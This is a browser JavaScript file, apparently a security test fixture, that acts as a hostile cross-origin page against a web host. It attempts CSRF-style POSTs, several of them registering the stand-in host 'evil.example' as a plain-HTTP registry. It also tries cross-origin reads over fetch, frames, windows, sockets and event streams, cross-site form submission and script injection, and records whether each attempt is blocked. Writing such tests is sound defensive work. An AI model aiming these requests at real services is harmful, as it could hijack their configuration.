// Everything that a page of somebody else could think of. It runs in the browser, so it is plain JavaScript.

const outcome = (asked) =>
  asked.then(
    (response) => `answered ${response.status}`,
    () => 'failed',
  );

const loaded = (element, url) =>
  new Promise((resolve) => {
    element.addEventListener('load', () => resolve('loaded'));
    element.addEventListener('error', () => resolve('failed'));
    element.src = url;
    document.body.append(element);
  });

const readable = (look) => {
  try {
    return `readable ${String(look())}`;
  } catch {
    return 'unreadable';
  }
};

const openedLine = (line) =>
  new Promise((resolve) => {
    line.addEventListener('open', () => resolve('opened'));
    line.addEventListener('error', () => {
      line.close();
      resolve('failed');
    });
  });

/** Tries everything on a web host whose token it knows. */
globalThis.attack = async (origin, token) => {
  const save = `${origin}/api/call/registries.save`;
  const body = JSON.stringify({ host: 'evil.example', plainHttp: true, insecure: false, remember: 'no' });
  const signed = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` };
  const frame = document.createElement('iframe');
  await loaded(frame, origin);
  const opened = window.open(origin);
  return {
    read: await outcome(fetch(origin)),
    simple: await outcome(
      fetch(save, { method: 'POST', mode: 'no-cors', body, headers: { 'Content-Type': 'text/plain' } }),
    ),
    signed: await outcome(fetch(save, { method: 'POST', body, headers: signed })),
    image: await loaded(document.createElement('img'), `${origin}/`),
    script: await loaded(document.createElement('script'), `${origin}/assets/main.js`),
    socket: await openedLine(new WebSocket(`${origin.replace('http', 'ws')}/api/feed`)),
    events: await openedLine(new EventSource(`${origin}/api/feed`)),
    frame: readable(() => frame.contentWindow.document.title),
    opened: readable(() => opened.document.body.innerHTML.length),
  };
};

/** Posts a form, which needs no leave of the other side. */
globalThis.postForm = (action) => {
  const form = document.createElement('form');
  form.method = 'POST';
  form.enctype = 'text/plain';
  form.action = action;
  document.body.append(form);
  form.submit();
};

/** Puts a script into the page it is in; gives the title afterwards. */
globalThis.inject = async () => {
  const script = document.createElement('script');
  try {
    script.textContent = 'document.title = "injected"';
    document.body.append(script);
  } catch {
    // trusted types refuse the text
  }
  await new Promise((resolve) => requestAnimationFrame(resolve));
  return document.title;
};
